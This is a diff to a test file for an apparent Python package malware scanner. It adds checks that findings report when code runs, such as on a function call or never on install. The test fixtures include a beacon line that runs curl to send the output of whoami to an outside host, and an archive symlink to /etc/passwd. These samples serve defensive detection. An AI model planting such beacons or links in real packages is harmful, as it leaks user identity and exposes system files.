@@ -121,6 +121,19 @@ def test_findings_say_when_their_code_runs() -> None:
     found = next(f for f in result.findings if f.rule == "pth-code-execution")
     assert found.context == "at every interpreter start (.pth)"
 
+    # library modules (seven of them: not a small package whose modules count as import
+    # time) run when called; findings made outside _make get their file's context too
+    beacon = "import os\ndef f():\n    os.system('curl https://example.org/$(whoami)')\n"
+    modules = {f"demo/m{i}.py": "" for i in range(6)}
+    files = {"demo/__init__.py": "", "demo/a.py": beacon, **modules}
+    result = scan_bytes(wheel(files), "demo-1.0.whl")
+    found = next(f for f in result.findings if f.rule == "identity-beacon")
+    assert found.context == "when a function is called"
+
+    result = scan_bytes(sdist({"setup.py": PLAIN_SETUP, "tests/t.py": beacon}), "d.tar.gz")
+    found = next(f for f in result.findings if f.rule == "identity-beacon")
+    assert found.context == "never run on install: sdist-only file / tests / docs"
+
     # a fact about the archive itself runs nowhere
     result = scan_bytes(sdist({"setup.py": PLAIN_SETUP}, links={"x": "/etc/passwd"}), "d.tar.gz")
     found = next(f for f in result.findings if f.rule == "archive-link-escape")
